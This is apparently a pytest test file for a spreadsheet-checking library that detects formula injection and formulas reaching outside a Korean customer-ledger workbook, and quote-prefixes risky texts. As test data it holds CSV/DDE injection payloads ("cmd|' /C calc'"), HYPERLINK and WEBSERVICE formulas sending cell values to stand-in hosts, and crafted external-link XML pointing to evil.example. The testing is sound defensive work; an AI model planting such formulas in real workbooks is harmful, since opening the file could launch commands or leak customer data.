"""What reaches out of a workbook is told; what an office writes every day is not."""

from __future__ import annotations

from datetime import datetime
from typing import TYPE_CHECKING, Final
from zipfile import ZipFile

import pytest
from openpyxl import Workbook, load_workbook

import xlcrm
from xlcrm.domain.formula_text import reaches

if TYPE_CHECKING:
    from pathlib import Path

NOW: Final = datetime(2024, 10, 1, 9)  # noqa: DTZ001 - wall time
USER: Final = xlcrm.Author("김대리", "fix", NOW)
TAKEN: Final = (
    '=HYPERLINK("http://x.kr/?"&A2)',
    "-2+3+cmd|' /C calc'!A0",
    "\t=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+SUM(A1:A3)",
)
PLAIN: Final = ("+82-10-1234-5678", "-", "@", "- 재계약 상담", "-5,000원", "@minsu", "\t010-1", "–")


@pytest.mark.parametrize(
    ("formula", "ways"),
    [
        ('_xlfn.WEBSERVICE("https://x.kr/?q="&B2)', ["WEBSERVICE"]),
        ('importxml("https://x.kr","//a")', ["IMPORTXML"]),
        ("cmd|'/C calc'!A0", ["DDE"]),
        ('IF(A1="",rtd("x.y",,"z"),1)', ["RTD"]),
        (r'HYPERLINK("\\evil.example\a")', ["HYPERLINK"]),
        (r'HYPERLINK("\\nas\계약서\"&A2)', []),
        ('IMAGE("https://x.kr/a.png?"&A1)', ["IMAGE"]),
        ('HYPERLINK("#고객대장!A1","가기")', []),
        ('HYPERLINK("mailto:"&E2)', []),
        ("IMAGE(A1)", []),
        ('IF(A1="WEBSERVICE(",1,"|!")', []),
        ("SUM('A|B'!A1:A3)", []),
        ("MYWEBSERVICE(1)", []),
        ("EDATE(D2,12)-1", []),
    ],
)
def test_what_a_formula_reaches_for(formula: str, ways: list[str]) -> None:
    """However it is spelled, and not what only looks so within quotes."""
    assert [*reaches(formula)] == ways


def office(path: Path, notes: tuple[str, ...], quoted: int | None = None) -> Path:
    """Return an office whose notes are these texts."""
    book = Workbook()
    sheet = book.worksheets[0]
    sheet.title = "고객대장"
    sheet.append(["고객 ID", "고객명", "계약 시작일", "계약 종료일", "비고"])
    for at, note in enumerate(notes):
        sheet.append([1001 + at, f"가온{at}", datetime(2024, 1, 1), datetime(2024, 12, 31), "x"])  # noqa: DTZ001
        cell = sheet.cell(at + 2, 5)
        cell.value, cell.data_type, cell.quotePrefix = note, "s", at == quoted
    book.save(path)
    return path


def codes(path: Path, code: str) -> list[tuple[str, str]]:
    """Return where a code is found, and in which words."""
    found = xlcrm.open_ledger(path).findings
    return [(str(each.where), each.message) for each in found if each.code == code]


def test_texts_that_become_formulas_are_told_and_marked(tmp_path: Path) -> None:
    """A text that its cell keeps a text is none; `fix` marks the others and changes no text."""
    path = office(tmp_path / "대장.xlsx", (*TAKEN, *PLAIN), quoted=4)
    assert [cell for cell, _ in codes(path, "C601")] == [f"고객대장!E{row}" for row in range(2, 6)]
    ledger = xlcrm.open_ledger(path)
    proposal = xlcrm.fix(ledger, only=["C601"])
    assert proposal.found.counts == {"C601": 4}
    assert not [each for each in proposal.found.left if each.code == "C601"]
    ledger.commit(proposal, by=USER)
    assert codes(path, "C601") == []
    cells = [row[4] for row in load_workbook(path)["고객대장"].iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == [*TAKEN, *PLAIN]
    assert [bool(cell.quotePrefix) for cell in cells] == [True] * 5 + [False] * len(PLAIN)
    assert {cell.data_type for cell in cells} == {"s"}
    assert not xlcrm.fix(xlcrm.open_ledger(path), only=["C601"]).plan


def test_formulas_that_reach_out_are_told_once_each(tmp_path: Path) -> None:
    """At the first cell, with how many; a link to a page counts in the columns that are read."""
    path = office(tmp_path / "대장.xlsx", ("가", "나", "다", "라"))
    book = load_workbook(path)
    sheet = book["고객대장"]
    sheet["E2"] = '=HYPERLINK("http://x.kr/?"&B2,"열기")'
    sheet["E3"], sheet["E4"] = "=cmd|'/C calc'!A0", "=cmd|'/C calc'!A1"
    sheet["E5"] = '=HYPERLINK("#고객대장!A1","위로")'
    other = book.create_sheet("환율")
    other["B2"], other["B3"] = '=WEBSERVICE("http://x.kr")', '=HYPERLINK("http://x.kr")'
    other["B4"] = "=SUM(고객대장!A2:A5)"
    book.save(path)
    assert codes(path, "C220") == [
        ("고객대장!E2", "이 파일 밖으로 나가는 수식(HYPERLINK)이 1개 있습니다."),
        ("고객대장!E3", "이 파일 밖으로 나가는 수식(DDE)이 2개 있습니다."),
        ("환율!B2", "이 파일 밖으로 나가는 수식(WEBSERVICE)이 1개 있습니다."),
    ]


@pytest.mark.parametrize(
    ("link", "target", "told"),
    [
        (b'<ddeLink ddeService="cmd" ddeTopic="/C calc"/>', b"", "DDE"),
        (b'<externalBook r:id="rId1"/>', b"https://evil.example/a.xlsx", "외부 연결"),
        (b'<externalBook r:id="rId1"/>', b"file:///C:/a.xlsx", ""),
        (b'<externalBook r:id="rId1"/>', b"a.xlsx", ""),
    ],
)
def test_a_link_is_told_where_it_starts_or_fetches_something(
    tmp_path: Path, link: bytes, target: bytes, told: str
) -> None:
    """As Excel keeps it when it saves the formula; another workbook of the office is no matter."""
    path = office(tmp_path / "대장.xlsx", ("가",))
    book = load_workbook(path)
    book["고객대장"]["E2"] = "=[1]Sheet1!A1"
    book.save(path)
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relationship = b'<Relationship Id="%b" Type="%b/%b" Target="%b"%b/></Relationships>'
    names = "xl/externalLinks/externalLink1.xml", "xl/externalLinks/_rels/externalLink1.xml.rels"
    main = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    beside = b"http://schemas.openxmlformats.org/package/2006/relationships"
    with ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    rels = "xl/_rels/workbook.xml.rels"
    here = relationship % (b"x1", kind, b"externalLink", b"externalLinks/externalLink1.xml", b"")
    parts[rels] = parts[rels].replace(b"</Relationships>", here)
    says = (main, kind, link)
    parts[names[0]] = b'<externalLink xmlns="%b" xmlns:r="%b">%b</externalLink>' % says
    there = relationship % (b"rId1", kind, b"externalLinkPath", target, b' TargetMode="External"')
    parts[names[1]] = b'<Relationships xmlns="%b">%b' % (beside, there)
    with ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    where = [("고객대장!E2", f"이 파일 밖으로 나가는 수식({told})이 1개 있습니다.")]
    assert codes(path, "C220") == (where if told else [])
